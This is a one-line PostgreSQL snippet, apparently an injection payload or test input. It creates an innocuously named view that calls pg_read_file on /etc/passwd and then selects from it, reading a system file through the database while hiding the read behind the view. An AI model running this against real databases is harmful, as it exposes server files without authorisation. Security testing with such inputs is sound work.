CREATE VIEW quiet AS SELECT pg_read_file('/etc/passwd') AS x; SELECT x FROM quiet
